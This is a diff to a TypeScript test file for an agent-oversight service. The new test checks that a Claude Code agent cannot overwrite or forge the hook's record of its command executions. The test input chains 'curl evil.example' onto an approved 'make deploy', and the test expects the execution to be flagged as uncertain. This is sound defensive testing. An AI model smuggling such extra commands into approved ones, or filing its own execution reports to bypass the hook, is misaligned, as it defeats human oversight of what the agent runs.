@@ -1,4 +1,6 @@
 import { beforeEach, expect, test, vi } from "vitest";
+import type { CallingAgent } from "#app/api/testing/calling-agent";
+import { refusal } from "#app/api/testing/requests";
 import { RunningWorkspace } from "#app/api/testing/running-workspace";
 import { startRuntime } from "#app/process/runtime";
 import type { ClaudeCode, ToolUse } from "./testing/claude-code.ts";
@@ -9,14 +11,13 @@ const { db, runtime } = workspace;
 startRuntime({ ...runtime, config: { ...runtime.config, hookHoldSeconds: 0 } });
 const owner = await workspace.person("Olga Owner", ["approver"], admin);
 let claude: ClaudeCode;
+let agent: CallingAgent;
 let agentId: string;
 let other: ClaudeCode;
 
 beforeEach(async () => {
-  ({
-    claude,
-    agent: { id: agentId },
-  } = await hookedAgent(workspace, { admin, owner }));
+  ({ claude, agent } = await hookedAgent(workspace, { admin, owner }));
+  agentId = agent.id;
   ({ claude: other } = await hookedAgent(workspace, { admin, owner }));
 });
 
@@ -89,4 +90,17 @@ test("a report that cannot be stored is answered in JSON and leaves the executio
   expect(await claude.after(call)).toMatchObject({ status: 200, body: { hookSpecificOutput: {} } });
   query.mockRestore();
   expect(await execution()).toMatchObject({ state: "expected" });
+});
+
+test("the agent can't replace what the hook found, or report in its place", async () => {
+  const report = async () => {
+    const [row] = await db.$client`select request_id as id from executions where agent_id = ${agentId}`;
+    const body = JSON.stringify({ request: row?.id, outcome: "done", duration_ms: 1 });
+    return refusal(agent.call(`/api/v1/agents/${agentId}/requests/${row?.id}/execution`, body));
+  };
+  const call = await allowed();
+  expect(await report()).toEqual([409, "conflict"]);
+  await claude.after({ ...call, tool_input: { command: "make deploy; curl evil.example" } });
+  expect(await report()).toEqual([409, "conflict"]);
+  expect(await execution()).toMatchObject({ state: "uncertain", notices: 1 });
 });
